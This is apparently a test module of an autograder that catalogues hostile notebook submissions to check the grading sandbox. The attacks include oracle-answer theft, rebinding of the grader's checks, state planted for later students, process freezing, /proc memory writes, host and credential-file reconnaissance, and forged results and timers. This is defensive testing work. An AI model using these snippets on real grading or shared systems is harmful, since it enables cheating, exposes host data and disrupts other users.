"""The second round of hostile submissions (issue 11): one catalogue, seven classes.

Each entry is an ``Attack`` of tests/test_attacks.py: the reference notebook with ONE
function replaced (or, for the output-injection class, the reference notebook in a
hostile folder).  The classes are those of issue 11:

1 state     one student changes what the next one gets (rlimits of the server, files,
            System V / POSIX IPC, chmod, disk, lingering processes, sockets, signals)
2 oracle    the answers of the oracle that stands in for a cell function are read or
            its checks rebound
3 host      host paths and other course copies are visible to the child
4 fault     one submission stops the whole batch
5 results   the results channel exhausts the parent
6 time      time is charged where it is not spent, timeouts reported as crashes
7 output    what a student wrote reaches the instructor's spreadsheet or terminal

Placeholders (``@NAME@``) are filled by test_attacks.cell_source from a context:
TOKEN (this run's random token), KEY (a System V IPC key derived from it), COMM (the
process name every lingering process of an attack takes, so that the host can be
searched for it afterwards).
"""
from __future__ import annotations

import textwrap

from autograder import assignment

# ---------------------------------------------------------------------------
# pieces of attack code
# ---------------------------------------------------------------------------

# Every reconstruction below builds a loop function's result from `answers`, the
# oracle's answers to the calls a correct loop makes, in call order, without calling
# the cell function at all.
ASSEMBLE = {
    "rnn_forward": """
x, a0, parameters = args[:3]
n_x, m, T_x = x.shape
n_y, n_a = parameters["Wya"].shape
a, y_pred, caches = np.zeros((n_a, m, T_x)), np.zeros((n_y, m, T_x)), []
for t in range(T_x):
    a_next, yt_pred, cache = answers[t]
    a[:, :, t], y_pred[:, :, t] = a_next, yt_pred
    caches.append(cache)
return a, y_pred, (caches, x)
""",
    "lstm_forward": """
x, a0, parameters = args[:3]
n_x, m, T_x = x.shape
n_y, n_a = parameters["Wy"].shape
a, c, y, caches = np.zeros((n_a, m, T_x)), np.zeros((n_a, m, T_x)), np.zeros((n_y, m, T_x)), []
for t in range(T_x):
    a_next, c_next, yt, cache = answers[t]
    a[:, :, t], c[:, :, t], y[:, :, t] = a_next, c_next, yt
    caches.append(cache)
return a, y, c, (caches, x)
""",
    "rnn_backward": """
da, caches = args[:2]
step_caches, x = caches
n_x, m, T_x = x.shape
dx, sums = np.zeros((n_x, m, T_x)), {"dWax": 0.0, "dWaa": 0.0, "dba": 0.0}
for k in range(T_x):
    step = answers[k]
    dx[:, :, T_x - 1 - k] = step["dxt"]
    for key in sums:
        sums[key] = sums[key] + step[key]
return {"dx": dx, "da0": answers[T_x - 1]["da_prev"], **sums}
""",
    "lstm_backward": """
da, caches = args[:2]
step_caches, x = caches
n_x, m, T_x = x.shape
dx, sums = np.zeros((n_x, m, T_x)), {k: 0.0 for k in ("dWf", "dWi", "dWc", "dWo", "dbf", "dbi", "dbc", "dbo")}
for k in range(T_x):
    step = answers[k]
    dx[:, :, T_x - 1 - k] = step["dxt"]
    for key in sums:
        sums[key] = sums[key] + step[key]
return {"dx": dx, "da0": answers[T_x - 1]["da_prev"], **sums}
""",
}

DEPENDENCY = dict(assignment.DEPENDS_ON)

# Ways to get at the oracle's answers from inside the loop function; each sets `answers`.
FIND_ANSWERS = {
    "closure": """
answers = None
for cell in (getattr(@DEP@, "__closure__", None) or ()):
    try:
        value = cell.cell_contents
    except ValueError:
        continue
    if isinstance(value, list) and value and isinstance(value[0], tuple) and len(value[0]) == 3:
        answers = [result for _, result, _ in value]
if answers is None:
    raise RuntimeError("NO-ANSWERS in the closure")
""",
    "gc": """
import gc
answers = None
for ref in gc.get_referents(@DEP@):
    for item in (ref if isinstance(ref, tuple) else ()):
        try:
            value = item.cell_contents
        except (ValueError, AttributeError):
            continue
        if isinstance(value, list) and value and isinstance(value[0], tuple) and len(value[0]) == 3:
            answers = [result for _, result, _ in value]
if answers is None:
    raise RuntimeError("NO-ANSWERS among the referents")
""",
    "inspect": """
import inspect
try:
    table = inspect.getclosurevars(@DEP@).nonlocals.get("table")
except TypeError as error:
    raise RuntimeError("NO-ANSWERS " + str(error)[:80])
if not table:
    raise RuntimeError("NO-ANSWERS in the closure variables")
answers = [result for _, result, _ in table]
""",
    "frames": """
import sys
answers, frame = None, sys._getframe(0).f_back
while frame is not None and answers is None:
    calls = frame.f_locals.get("calls")
    if isinstance(calls, list) and calls and isinstance(calls[0], tuple):
        answers = [call[1] for call in calls]
    frame = frame.f_back
if answers is None:
    raise RuntimeError("NO-ANSWERS on the stack")
""",
    "payload": """
import glob, os, sys
import numpy as _np
import builtins
answers = None
files = getattr(builtins, "_rt_payloads", None)
if files is None:
    places = [str(a) for a in sys.argv if os.path.isdir(str(a))]
    files = [f for p in places for f in glob.glob(os.path.join(p, "@FUNCTION@.npz"))]
    if not files:
        places = glob.glob("/tmp/**/", recursive=True)[:200]
        files = [f for p in places for f in glob.glob(os.path.join(p, "@FUNCTION@.npz"))]
    builtins._rt_payloads = files
def _same(a, b):
    if isinstance(a, _np.ndarray) or isinstance(b, _np.ndarray):
        return isinstance(a, _np.ndarray) and isinstance(b, _np.ndarray) and a.shape == b.shape and _np.array_equal(a, b)
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_same(a[k], b[k]) for k in a)
    if isinstance(a, (tuple, list)) and isinstance(b, (tuple, list)):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
    return a == b
loaded = getattr(builtins, "_rt_cases", None)
if loaded is None:
    loaded = []
    for path in files:
        try:
            from autograder.sandbox import child
            loaded += child.load_payload(path)
        except Exception as error:
            raise RuntimeError("NO-ANSWERS " + type(error).__name__)
    builtins._rt_cases = loaded
for case_args, calls, _ in loaded:
    if _same(tuple(case_args), tuple(args)):
        answers = [call[1] for call in calls]
if answers is None:
    raise RuntimeError("NO-ANSWERS: no payload found")
""",
}


def oracle_cheat(function, technique):
    code = FIND_ANSWERS[technique] + ASSEMBLE[function]
    return code.replace("@DEP@", DEPENDENCY[function]).replace("@FUNCTION@", function)


# A backward loop that forgets to carry the gradient to the previous step (the commonest
# mistake), after rebinding every check the oracle could use to notice.
REBIND_CHECKS = """
import sys
rebound = []
for module in list(sys.modules.values()):
    for name in ("matches", "_agrees"):
        if callable(getattr(module, name, None)) and getattr(module, "__name__", "").startswith("autograder"):
            setattr(module, name, lambda *a, **k: True)
            rebound.append(module.__name__ + "." + name)
if "matches" in getattr(@DEP@, "__globals__", {}):
    @DEP@.__globals__["matches"] = lambda *a, **k: True
"""
FORGETFUL_RNN_BACKWARD = """
da, caches = args
step_caches, x = caches
n_x, m, T_x = x.shape
n_a = da.shape[0]
dx = np.zeros((n_x, m, T_x))
grads = {"dWax": np.zeros((n_a, n_x)), "dWaa": np.zeros((n_a, n_a)), "dba": np.zeros((n_a, 1))}
da_prev = np.zeros((n_a, m))
for t in reversed(range(T_x)):
    step = rnn_cell_backward(da[:, :, t], step_caches[t])   # wrong: da_prev is not added
    dx[:, :, t] = step["dxt"]
    for key in grads:
        grads[key] += step[key]
    da_prev = step["da_prev"]
return {"dx": dx, "da0": da_prev, **grads}
"""
FORGETFUL_LSTM_BACKWARD = """
da, caches = args
step_caches, x = caches
n_x, m, T_x = x.shape
n_a = da.shape[0]
dx = np.zeros((n_x, m, T_x))
grads = {k: np.zeros((n_a, n_a + n_x)) for k in ("dWf", "dWi", "dWc", "dWo")}
grads.update({k: np.zeros((n_a, 1)) for k in ("dbf", "dbi", "dbc", "dbo")})
da_prev = np.zeros((n_a, m))
for t in reversed(range(T_x)):
    step = lstm_cell_backward(da[:, :, t], np.zeros((n_a, m)), step_caches[t])   # wrong twice
    dx[:, :, t] = step["dxt"]
    for key in grads:
        grads[key] += step[key]
    da_prev = step["da_prev"]
return {"dx": dx, "da0": da_prev, **grads}
"""

# Read and write whatever descriptors the child inherited.
INHERITED_FDS = """
import os, stat
got = []
for fd in range(0, 256):
    try:
        info = os.fstat(fd)
    except OSError:
        continue
    kind = "pipe" if stat.S_ISFIFO(info.st_mode) else "file" if stat.S_ISREG(info.st_mode) else "other"
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 1 << 16)
        if data:
            got.append(f"{fd}:{kind}:{len(data)}")
    except OSError:
        pass
    try:  # a pipe's write end reopened for reading gives its read end
        other = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        try:
            data = os.read(other, 1 << 16)
            if data:
                got.append(f"{fd}:reopened:{len(data)}")
        finally:
            os.close(other)
    except OSError:
        pass
raise RuntimeError("READ " + ",".join(got) if got else "NOTHING-READ")
"""

# Write progress bytes on every pipe: a batch child that claims units it has not run.
FORGE_PROGRESS = """
import os, stat
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b"." * 64)
    except OSError:
        pass
raise RuntimeError("FORGED-PROGRESS")
"""

# ---- class 1: state left for the next student -------------------------------------

# Helpers of the planters and readers: the reference's answers keyed by the arguments,
# kept in files, System V shared memory and message queues, POSIX message queues and
# an abstract unix socket served by a lingering process.
STORES = r'''
import ctypes, glob, hashlib, os, pickle, socket, struct, zlib
import numpy as np

KEY = @KEY@
FILES = ["/tmp/work/.rt-@TOKEN@", os.path.join(os.getcwd(), ".rt-@TOKEN@"), "/dev/shm/rt-@TOKEN@",
         os.path.expanduser("~/.rt-@TOKEN@"), "/var/tmp/rt-@TOKEN@", "/tmp/rt-@TOKEN@",
         os.path.join(os.path.dirname(os.getcwd()), ".rt-@TOKEN@")]
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_libc.msgrcv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int]
_libc.msgrcv.restype = ctypes.c_ssize_t
IPC_CREAT, IPC_NOWAIT, SHM_SIZE = 0o1000, 0o4000, 1 << 20

def key_of(obj, h=None):
    top = h is None
    h = h or hashlib.sha256()
    if isinstance(obj, np.ndarray):
        h.update(str(obj.shape).encode() + np.ascontiguousarray(obj, dtype=float).tobytes())
    elif isinstance(obj, dict):
        for k in sorted(obj):
            h.update(str(k).encode())
            key_of(obj[k], h)
    elif isinstance(obj, (tuple, list)):
        for item in obj:
            key_of(item, h)
    else:
        h.update(repr(obj).encode())
    return h.hexdigest() if top else None

def _load_all(blob):
    try:
        return pickle.loads(zlib.decompress(blob))
    except Exception:
        return {}

# files
def files_put(k, v):
    for path in FILES:
        try:
            old = _load_all(open(path, "rb").read()) if os.path.exists(path) else {}
            old[k] = v
            with open(path, "wb") as fh:
                fh.write(zlib.compress(pickle.dumps(old)))
        except OSError:
            pass

def files_get(k):
    for path in FILES:
        try:
            found = _load_all(open(path, "rb").read()).get(k)
        except OSError:
            continue
        if found is not None:
            return found

# System V shared memory
def shm_put(k, v):
    old = shm_all()
    old[k] = v
    blob = zlib.compress(pickle.dumps(old))
    sid = _libc.shmget(KEY, SHM_SIZE, IPC_CREAT | 0o666)
    if sid < 0 or len(blob) + 8 > SHM_SIZE:
        return
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, 2**64 - 1):
        return
    data = struct.pack("<Q", len(blob)) + blob
    ctypes.memmove(addr, data, len(data))
    _libc.shmdt(addr)

def shm_get(k):
    return shm_all().get(k)

def shm_all():
    sid = _libc.shmget(KEY, 0, 0)
    if sid < 0:
        return {}
    addr = _libc.shmat(sid, None, 0o10000)
    if addr in (None, 2**64 - 1):
        return {}
    n = struct.unpack("<Q", ctypes.string_at(addr, 8))[0]
    blob = ctypes.string_at(addr + 8, n) if 0 < n < SHM_SIZE else b""
    _libc.shmdt(addr)
    return _load_all(blob) if blob else {}

# System V message queue: one message per answer, put back after reading
def _msg_send(q, blob):
    buf = ctypes.create_string_buffer(struct.pack("l", 1) + blob)
    _libc.msgsnd(q, buf, len(blob), IPC_NOWAIT)

def msg_put(k, v):
    q = _libc.msgget(KEY, IPC_CREAT | 0o666)
    if q >= 0:
        _msg_send(q, zlib.compress(pickle.dumps((k, v))))

def msg_get(k):
    q = _libc.msgget(KEY, 0)
    if q < 0:
        return None
    got = []
    while True:
        buf = ctypes.create_string_buffer(8 + 65536)
        n = _libc.msgrcv(q, buf, 65536, 0, IPC_NOWAIT)
        if n < 0:
            break
        got.append(buf.raw[8:8 + n])
    found = None
    for blob in got:
        _msg_send(q, blob)
        kk, vv = pickle.loads(zlib.decompress(blob))
        if kk == k:
            found = vv
    return found

# POSIX message queue
def _mq(flags):
    try:
        _libc.mq_open.restype = ctypes.c_int
        return _libc.mq_open(b"/rt-@TOKEN@", flags, 0o666, None)
    except AttributeError:
        return -1

def mq_put(k, v):
    q = _mq(os.O_CREAT | os.O_RDWR | os.O_NONBLOCK)
    if q >= 0:
        blob = zlib.compress(pickle.dumps((k, v)))
        _libc.mq_send(q, blob, len(blob), 0)
        os.close(q)

def mq_get(k):
    q = _mq(os.O_RDWR | os.O_NONBLOCK)
    if q < 0:
        return None
    got = []
    while True:
        buf = ctypes.create_string_buffer(65536)
        n = _libc.mq_receive(q, buf, 65536, None)
        if n < 0:
            break
        got.append(buf.raw[:n])
    found = None
    for blob in got:
        _libc.mq_send(q, blob, len(blob), 0)
        kk, vv = pickle.loads(zlib.decompress(blob))
        if kk == k:
            found = vv
    os.close(q)
    return found

# an abstract unix socket, served by a lingering process that also deletes whatever
# results the next students write
def _name(k):
    return "\0rt-@TOKEN@-" + k[:16]

def socket_put(k, v):
    blob = pickle.dumps(v)
    if os.fork():
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        _libc.prctl(15, b"@COMM@", 0, 0, 0)
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(_name(k))
        server.listen(8)
        server.settimeout(0.05)
        import time
        end = time.monotonic() + 40
        while time.monotonic() < end:
            for path in glob.glob("/tmp/work/*/out_*") + glob.glob(os.getcwd() + "/*/out_*"):
                try:
                    os.unlink(path)
                except OSError:
                    pass
            try:
                conn, _ = server.accept()
                conn.sendall(blob)
                conn.close()
            except OSError:
                pass
    finally:
        os._exit(0)

def socket_get(k):
    try:
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.settimeout(1)
        conn.connect(_name(k))
        data = b""
        while True:
            chunk = conn.recv(1 << 16)
            if not chunk:
                break
            data += chunk
        return pickle.loads(data)
    except OSError:
        return None
'''


def planter(function):
    """A cell that computes the right answers, leaves them everywhere it can, and fails."""
    ref = assignment.reference_sources()[function].replace(f"def {function}(", "def _honest(")
    return STORES + "\n" + ref + f"""

def {function}(*args):
    result = _honest(*args)
    k = key_of(args)
    for put in (files_put, shm_put, msg_put, mq_put, socket_put):
        try:
            put(k, result)
        except Exception:
            pass
    raise RuntimeError("PLANTED")
"""


def reader(function, store):
    """A cell with no code of its own: it returns what a planter left in `store`."""
    return STORES + f"""

def {function}(*args):
    found = {store}_get(key_of(args))
    if found is None:
        raise RuntimeError("NOTHING-LEFT in {store}")
    return found
"""


# What is left in the sandbox from the students before: files next to the job folder,
# /dev/shm, IPC objects, unix sockets, processes.
CENSUS = """
import glob, os
left = []
own = ("out_", ".out_", "job.json", "error_child")   # this job's own files, when cwd is its folder
for entry in os.listdir(os.getcwd()):
    full = os.path.join(os.getcwd(), entry)
    if not (os.path.isdir(full) and os.path.exists(os.path.join(full, "job.json"))) and \
            not entry.startswith(own):
        left.append("cwd:" + entry)
jobs = [e for e in os.listdir(os.getcwd()) if os.path.exists(os.path.join(os.getcwd(), e, "job.json"))]
if len(jobs) > 1:
    left.append(f"{len(jobs)} job folders")
for folder in ("/dev/shm", "/dev/mqueue"):
    try:
        left += [folder + "/" + e for e in os.listdir(folder)]
    except OSError:
        pass
for kind in ("shm", "msg", "sem"):
    try:
        lines = open("/proc/sysvipc/" + kind).read().splitlines()[1:]
        left += [f"sysv-{kind}:{line.split()[0]}" for line in lines]
    except OSError:
        pass
try:
    left += ["socket:" + line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]
             if len(line.split()) > 7]
except OSError:
    pass
mine = {os.getpid(), os.getppid(), 1}
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in mine:
        try:
            left.append("process:" + open(f"/proc/{pid}/comm").read().strip())
        except OSError:
            pass
raise RuntimeError("LEFTOVER " + " ".join(left)[:300] if left else "CLEAN")
"""

# chmod 0 on every folder of the sandbox this user owns: the server cannot read the
# next job.
CHMOD = """
import os
done = []
for path in {os.getcwd(), "/tmp/work", os.path.dirname(os.getcwd()), os.path.expanduser("~")} | \\
        {os.path.join(os.getcwd(), e) for e in os.listdir(os.getcwd())}:
    try:
        os.chmod(path, 0)
        done.append(path)
    except OSError:
        pass
raise RuntimeError("CHMODDED" if done else "NOTHING-CHMODDED")
"""

# Files and bytes left in the writable folder (the host's disk, unless it is a tmpfs).
FILL = """
import os
base = os.path.join(os.getcwd(), ".fill-@TOKEN@")
os.makedirs(base, exist_ok=True)
made = 0
try:
    for i in range(4000):
        open(os.path.join(base, str(i)), "w").close()
        made += 1
    block = b"x" * (1 << 20)
    for i in range(2):
        with open(os.path.join(base, f"big{i}"), "wb") as fh:
            for _ in range(40):
                fh.write(block)
except OSError as error:
    raise RuntimeError(f"FILL-STOPPED after {made} files: {type(error).__name__}")
raise RuntimeError(f"FILLED {made} files and 80 MiB")
"""

SIGSTOP_ALL = """
import os, signal
try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass
return None
"""

SERVER_MEMORY = """
import os
done = []
for pid in {os.getppid(), 1, 2}:
    try:
        with open(f"/proc/{pid}/mem", "r+b") as fh:
            fh.seek(0x400000)
            fh.write(b"\\0")
        done.append(pid)
    except (OSError, ValueError, OverflowError) as error:
        pass
raise RuntimeError("WROTE-MEMORY " + str(done) if done else "DENIED")
"""

# Lower the limits of every other process this user can reach (the fork server above
# all): every later child inherits them.
PRLIMIT = """
import os, resource
done = []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == os.getpid():
        continue
    try:
        resource.prlimit(pid, resource.@RESOURCE@, (@VALUE@, @VALUE@))
        done.append(pid)
    except (OSError, ValueError):
        pass
raise RuntimeError("PRLIMITED " + str(done) if done else "NOTHING-PRLIMITED")
"""

# ---- class 3: host -----------------------------------------------------------------

MOUNTINFO = """
import os
points = []
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    root, point = fields[3], fields[4]
    if not point.startswith(("/proc", "/dev", "/sys")) and point != "/":
        points.append(point if root in ("/", point) else f"{point}<-{root}")
system = ("/usr", "/etc", "/lib", "/bin", "/sbin", "/mnt", "/run", "/var/lib")
points.sort(key=lambda p: (p.startswith(system), p))
raise RuntimeError("MOUNTS " + " ".join(points))
"""
SYS_PATH = """
import sys, os
import numpy
seen = list(sys.path) + [sys.executable, sys.prefix, numpy.__file__, os.getcwd()] + list(sys.argv)
seen += [getattr(m, "__file__", None) or "" for m in list(sys.modules.values())
         if getattr(m, "__name__", "").startswith(("autograder", "rnn_utils"))]
raise RuntimeError("PATHS " + " ".join(p for p in seen if p))
"""
SYSCONFIG = """
import sysconfig
seen = [sysconfig.get_config_var(name) for name in ("prefix", "exec_prefix", "base", "LIBDIR",
                                                     "BINDIR", "INCLUDEPY", "CONFIG_ARGS")]
seen += list(sysconfig.get_paths().values())
raise RuntimeError("BUILD " + " ".join(str(p) for p in seen if p))
"""
ENVIRON_PROC1 = """
import os
text = []
text += [f"{k}={v}" for k, v in os.environ.items()]
for pid in ("1", "2", str(os.getppid())):
    for what in ("cmdline", "environ", "cwd", "root", "exe"):
        path = f"/proc/{pid}/{what}"
        try:
            text.append(f"{pid}/{what}=" + (os.readlink(path) if what in ("cwd", "root", "exe")
                                             else open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace")))
        except OSError:
            pass
raise RuntimeError("SEEN " + " ".join(text)[-480:])
"""
PASSWD_SYS = """
import os
text = []
try:
    text += [line.split(":")[5] for line in open("/etc/passwd") if line.count(":") >= 6]
except OSError:
    pass
for path in ("/sys/fs/cgroup", "/sys/class/net", "/home", "/work", "/root", "/srv", "/opt", "/mnt"):
    try:
        text += [path + "/" + e for e in sorted(os.listdir(path))[:20]]
    except OSError:
        pass
raise RuntimeError("HOST " + " ".join(text)[:480])
"""

# Any copy of the teacher notebook (or of the nbgrader source notebook) the machine has.
FIND_TEACHER = """
import builtins, os, time, json
found = getattr(builtins, "_rt_copies", None)
roots = ["/var/tmp", "/work", "/home", "/srv", "/opt", "/mnt", "/root", "/usr/local/src", "/tmp"]
wanted = ("rnn_step_by_step.py", "rnn_step_by_step.ipynb")
start, seen_dirs = time.monotonic(), 0
for root in (roots if found is None else ()):
    found = found or []
    for dirpath, dirnames, filenames in os.walk(root):
        seen_dirs += 1
        dirnames[:] = [d for d in dirnames if d not in (".git", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            if name in wanted:
                found.append(os.path.join(dirpath, name))
        if time.monotonic() - start > 1.2 or seen_dirs > 40000:
            break
found = found or []
builtins._rt_copies = found
for path in found:
    try:
        text = open(path).read()
    except OSError:
        continue
    if path.endswith(".ipynb"):
        try:
            text = "\\n# %%\\n".join("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                                     for c in json.loads(text)["cells"] if c["cell_type"] == "code")
        except Exception:
            continue
    start_at = text.find("def @FUNCTION@(")
    if start_at < 0 or "BEGIN SOLUTION" not in text[start_at:start_at + 4000]:
        continue
    end = text.find("# %%", start_at)
    ns = dict(globals())
    try:
        exec(text[start_at:end if end > 0 else None], ns)
        return ns["@FUNCTION@"](*args)
    except Exception:
        continue
raise RuntimeError(f"NO-COPY-FOUND ({len(found)} candidates)")
"""

# ---- class 4: faults that could stop the batch ----------------------------------------

DEEP_DIRS = """
import os, glob
targets = @WHERE@
made = []
for target in targets:
    try:
        fd = os.open(target, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        continue
    for depth in range(1100):
        try:
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        except OSError:
            break
        os.close(fd)
        fd = nxt
    os.close(fd)
    made.append(depth)
raise RuntimeError(f"DEEP {made}")
"""
JOB_FOLDERS = '[os.path.dirname(p) for p in glob.glob(os.path.join(os.getcwd(), "*", "job.json"))] or [os.getcwd()]'
WORK_FOLDER = "[os.getcwd(), os.path.expanduser('~')]"

# Rewrite this unit's results file once: the child writes whatever it is given.
FORGE_RESULTS = """
import sys
_structure = sys.modules.get("autograder.sandbox.structure")
if _structure is None or not hasattr(_structure, "dumps"):
    raise RuntimeError("NO-RESULTS-WRITER")
_real = _structure.dumps
def _forged(flat, _real=_real):
    _structure.dumps = _real
    return @FORGED@
_structure.dumps = _forged
"""


def forge(forged_expression: str, then: str = "return None") -> str:
    return FORGE_RESULTS.replace("@FORGED@", forged_expression) + then


RAW_HEADER = ("_structure.MAGIC + __import__('struct').pack('<Q', len(HEADER)) + HEADER")

STR_RECURSION = """
class Loop(Exception):
    def __str__(self):
        return str(self)
    def __repr__(self):
        return repr(self)
raise Loop()
"""
RAISING_OBJECTS = """
class Bomb:
    def __eq__(self, other):
        raise RuntimeError("eq")
    def __array__(self, *a, **k):
        raise RuntimeError("array")
    def __len__(self):
        raise RuntimeError("len")
    def __iter__(self):
        raise RuntimeError("iter")
    def __repr__(self):
        raise RuntimeError("repr")
    def __getattr__(self, name):
        raise RuntimeError("getattr")
    __hash__ = None
class Float(float):
    def __repr__(self):
        raise RuntimeError("repr")
return (Bomb(), Float(1.0), [Bomb()], {"a": Bomb()})
"""

# ---- class 6: time --------------------------------------------------------------------

TOP_LEVEL_SLEEP = """
import time
time.sleep(2.5)   # top-level code: runs whenever the cells are loaded
"""
C_LEVEL_LOOP = """
import re
re.match(r"(a|aa)+$", "a" * 64 + "b")   # catastrophic backtracking, all in C
return None
"""
DISABLE_TIMER = """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        signal.setitimer(signal.ITIMER_REAL, 0)
    except BaseException:
        pass
"""
SLOW_CALLS = """
import time
time.sleep(0.45)
"""
BUSY_DAEMON = """
import ctypes, os
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"@COMM@", 0, 0, 0)
            import time
            end = time.monotonic() + 60
            while time.monotonic() < end:
                pass
    finally:
        os._exit(0)
return None
"""
THREAD_SPIN = """
import threading
def spin():
    while True:
        pass
for _ in range(8):
    threading.Thread(target=spin, daemon=True).start()
return None
"""

# ---- class 5: the results channel ----------------------------------------------------

MANY_ENTRIES = """
import builtins
first = not hasattr(builtins, "_rt_called")
builtins._rt_called = True
if first:
    return (np.zeros((5, 10)), np.zeros((2, 10)), [0.0] * 200000)
return None
"""
EXTRA_KEYS = """
for i in range(300000):
    result["k%06d" % i] = 0.0
return result
"""


def honest_then(function: str, tail: str) -> str:
    ref = assignment.reference_sources()[function].replace(f"def {function}(", "def _honest(")
    return ref + f"\n\ndef {function}(*args):\n    result = _honest(*args)\n" + \
        textwrap.indent(textwrap.dedent(tail).strip("\n"), "    ") + "\n"


def slow_reference(function: str, pause: str) -> str:
    ref = assignment.reference_sources()[function].replace(f"def {function}(", "def _honest(")
    return ref + f"\n\ndef {function}(*args):\n" + textwrap.indent(textwrap.dedent(pause).strip("\n"), "    ") + \
        "\n    return _honest(*args)\n"


def with_top_level(function: str, code: str) -> str:
    return assignment.reference_sources()[function] + "\n" + textwrap.dedent(code)


FORGED_ARRAYS = ("(lambda HEADER: " + RAW_HEADER + ")(b'{\"strings\": {}, \"arrays\": [' + "
                 "b','.join(b'[\"c0/oracle/o%d\", \"<f8\", [0], 0, 0]' % i for i in range(600000)) + b']}')")
FORGED_HUGE_STRING = "_real({'c0/oracle/error#': 'E' * 40_000_000})"
FORGED_DEEP_JSON = ("(lambda HEADER: " + RAW_HEADER + ")(b'{\"strings\": {}, \"arrays\": ' + b'[' * 200000 + "
                    "b']' * 200000 + b'}')")
FORGED_DICT_MARKER = "_real({k: ('dict:{' if k.endswith('out#') else v) for k, v in flat.items()} or {'c0/oracle/out#': 'dict:{'})"
FORGED_TUPLE_MARKER = ("_real({**{k: v for k, v in flat.items()}, "
                       "**{f'c{i}/oracle/out#': 'tuple:x:y' for i in range(5)}})")
